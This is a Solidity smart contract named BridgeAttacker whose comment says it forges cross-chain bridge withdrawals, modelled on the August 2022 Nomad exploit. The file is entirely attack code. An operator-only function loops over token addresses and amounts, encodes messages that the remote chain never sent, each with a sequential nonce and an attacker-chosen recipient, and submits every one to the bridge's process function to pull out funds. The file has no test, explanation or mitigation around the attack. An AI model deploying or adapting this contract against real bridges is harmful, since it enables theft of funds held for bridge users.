// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IMessageBridge {
    function process(bytes calldata message) external returns (bool);
}

/// @title Forges bridge withdrawals: builds messages that were never sent from the remote
/// chain and calls `process` on each (Nomad, August 2022). Many messages per transaction.
contract BridgeAttacker {
    IMessageBridge public immutable bridge;
    address public immutable beneficiary;
    address public immutable operator;

    error NotOperator();

    constructor(IMessageBridge bridge_, address beneficiary_) {
        bridge = bridge_;
        beneficiary = beneficiary_;
        operator = msg.sender;
    }

    function attack(address[] calldata tokens, uint256[] calldata amounts, uint64 firstNonce)
        external
    {
        if (msg.sender != operator) revert NotOperator();
        forge(bridge, tokens, amounts, firstNonce, beneficiary);
    }

    /// @dev Shared with the constructor-only variant.
    function forge(
        IMessageBridge target,
        address[] memory tokens,
        uint256[] memory amounts,
        uint64 firstNonce,
        address recipient
    ) internal {
        for (uint256 i = 0; i < tokens.length; i++) {
            target.process(abi.encode(firstNonce + uint64(i), tokens[i], recipient, amounts[i]));
        }
    }
}
